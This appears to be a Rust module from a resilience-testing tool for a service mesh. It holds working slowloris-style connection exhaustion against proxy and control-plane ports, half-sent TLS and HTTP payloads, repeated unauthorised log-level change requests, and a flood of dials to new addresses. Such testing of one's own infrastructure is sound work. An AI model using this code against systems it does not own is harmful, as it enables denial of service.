//! Attacks that complete no TLS handshake: connections to every port that send little and stay open, requests to the
//! admin ports, and connections to addresses that the Pod has not called before.

use std::net::{IpAddr, SocketAddr};
use std::sync::atomic::Ordering;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::timeout;

use super::{CLOSED_PORT, Campaign, REST, at};

/// Number of connections to each port of each Pod: more than the 128 connections that an admin port keeps open.
const SOCKETS: u32 = 150;
/// The first bytes of a TLS record with a ClientHello.
const HALF_HELLO: &[u8] = &[0x16, 3, 1, 2, 0, 1];
/// The first 16,000 bytes of a ClientHello that fills a whole record.
const LARGE_HALF_HELLO: &[u8] = &large_half_hello();
const HALF_REQUEST: &[u8] = b"PUT /log-level HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\n";
const HALF_PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n";
/// A request that an admin port accepts only from loopback.
const LOG_OFF: &[u8] = b"PUT /log-level HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: 3\r\n\r\noff";
const METRICS: &[u8] = b"GET /metrics HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n";

/// Pause before a closed connection is replaced.
const HOLD_REST: Duration = Duration::from_secs(6);
/// Number of addresses that a member dials at once in each [`DIAL_INTERVAL`]. In a minute, this makes 10,800 addresses.
const DIALLED_AT_ONCE: usize = 9;
const DIAL_INTERVAL: Duration = Duration::from_millis(50);
const PATIENCE: Duration = Duration::from_secs(1);

pub(super) fn attack(campaign: &mut Campaign, proxies: &[IpAddr], controls: &[IpAddr]) {
    for (name, ips, port, said) in [
        ("proxy_admin_silent", proxies, 4191, &b""[..]),
        ("proxy_admin_half", proxies, 4191, HALF_REQUEST),
        ("proxy_inbound_half", proxies, 4143, HALF_HELLO),
        ("proxy_tunnel_half", proxies, 15008, HALF_HELLO),
        ("proxy_inbound_large_half", proxies, 4143, LARGE_HALF_HELLO),
        ("proxy_tunnel_large_half", proxies, 15008, LARGE_HALF_HELLO),
        ("proxy_application_half", proxies, CLOSED_PORT, HALF_PREFACE),
        ("proxy_application_large_half", proxies, CLOSED_PORT, LARGE_HALF_HELLO),
        ("control_xds_half", controls, 15010, HALF_HELLO),
        ("control_certificates_half", controls, 15012, HALF_HELLO),
        ("control_admin_half", controls, 15014, HALF_REQUEST),
        ("control_webhooks_half", controls, 15017, HALF_HELLO),
        ("control_probes_half", controls, 15021, HALF_REQUEST),
    ] {
        hold(campaign, name, &at(ips, port), said);
    }
    ask_again_and_again(campaign, "log_level_refused", &at(proxies, 4191), LOG_OFF, b" 403 ");
    ask_again_and_again(campaign, "log_level_refused_by_control", &at(controls, 15014), LOG_OFF, b" 403 ");
    ask_again_and_again(campaign, "metrics_answered", &at(proxies, 4191), METRICS, b" 200 ");
}

const fn large_half_hello() -> [u8; 16_000] {
    let mut bytes = [0; 16_000];
    // A record of 16,383 bytes (RFC 8446 section 5.1), and in it a ClientHello of 16,379 (section 4).
    let head = [0x16, 3, 1, 0x3f, 0xff, 1, 0, 0x3f, 0xfb, 3, 3];
    let mut at = 0;
    while at < head.len() {
        bytes[at] = head[at];
        at += 1;
    }
    bytes
}

/// Keeps [`SOCKETS`] connections to each address open, and sends only `said` on each. Replaces each connection that the
/// peer closes.
fn hold(campaign: &mut Campaign, name: &'static str, addresses: &[SocketAddr], said: &'static [u8]) {
    let opened = campaign.count(name);
    campaign.spawn_each(addresses, SOCKETS, HOLD_REST, |address| {
        let opened = opened.clone();
        async move {
            loop {
                if let Ok(Ok(mut stream)) = timeout(PATIENCE, TcpStream::connect(address)).await {
                    opened.fetch_add(1, Ordering::Relaxed);
                    if stream.write_all(said).await.is_ok() {
                        while stream.read(&mut [0; 512]).await.is_ok_and(|read| read > 0) {}
                    }
                }
                tokio::time::sleep(HOLD_REST).await;
            }
        }
    });
}

/// Sends up to ten requests a second to each address, and counts the answers with this status.
fn ask_again_and_again(
    campaign: &mut Campaign,
    name: &'static str,
    addresses: &[SocketAddr],
    request: &'static [u8],
    status: &'static [u8],
) {
    let answered = campaign.count(name);
    campaign.spawn_each(addresses, 1, REST, |address| {
        let answered = answered.clone();
        async move {
            loop {
                let answer = timeout(PATIENCE, ask(address, request)).await;
                let is_it = |answer: &[u8]| answer.windows(status.len()).take(20).any(|bytes| bytes == status);
                answered.fetch_add(answer.is_ok_and(|answer| is_it(&answer)).into(), Ordering::Relaxed);
                tokio::time::sleep(REST).await;
            }
        }
    });
}

/// Sends a request, and returns up to 64 bytes of the answer. Returns no bytes after an error.
async fn ask(address: SocketAddr, request: &[u8]) -> Vec<u8> {
    let mut answer = vec![0; 64];
    let Ok(mut stream) = TcpStream::connect(address).await else { return Vec::new() };
    if stream.write_all(request).await.is_err() {
        return Vec::new();
    }
    let read = stream.read(&mut answer).await.unwrap_or_default();
    answer.truncate(read);
    answer
}

/// Dials addresses that this Pod has not called before. The Pod's proxy sends a request about each address to the
/// control plane.
pub(super) fn dial_ever_new_addresses(campaign: &mut Campaign, ips: &[IpAddr]) {
    let dialled = campaign.count("new_addresses_dialled");
    let addresses: Vec<SocketAddr> =
        (20_000..60_000).flat_map(|port| ips.iter().map(move |ip| (*ip, port).into())).collect();
    campaign.spawn(async move {
        let mut pace = tokio::time::interval(DIAL_INTERVAL);
        for addresses in addresses.chunks(DIALLED_AT_ONCE) {
            pace.tick().await;
            dialled.fetch_add(addresses.len() as u64, Ordering::Relaxed);
            for address in addresses.iter().copied() {
                // Wait: the proxy closes the connection as soon as it has found that nothing listens at the address.
                tokio::spawn(timeout(PATIENCE, async move {
                    let mut stream = TcpStream::connect(address).await?;
                    stream.write_all(b"\r\n").await?;
                    stream.read(&mut [0; 64]).await
                }));
            }
        }
    });
}
